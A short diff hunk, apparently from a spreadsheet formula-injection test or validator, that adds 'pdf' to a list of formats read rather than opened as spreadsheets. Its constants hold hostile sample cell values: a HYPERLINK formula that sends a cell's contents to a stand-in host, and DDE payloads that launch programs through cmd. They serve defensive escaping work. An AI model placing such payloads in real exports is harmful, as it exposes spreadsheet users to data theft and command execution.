@@ -31,7 +31,7 @@ HOSTILE_NAME = '=HYPERLINK("http://evil.example/?leak="&A1,"Refugio")'
 HOSTILE_RECORD = "@SUM(1+1)*cmd|' /C calc'!A0"
 HOSTILE_CELL = "+cmd|' /C notepad'!A0"
 DANGEROUS_START = ("=", "+", "-", "@", "\t", "\r")
-DOCUMENTS = ("html", "md")  # read, not opened as a spreadsheet; their text is escaped by their own writers
+DOCUMENTS = ("html", "md", "pdf")  # read, not opened as a spreadsheet; their text is escaped by their own writers
 
 
 def _is_dangerous(text: str) -> bool:
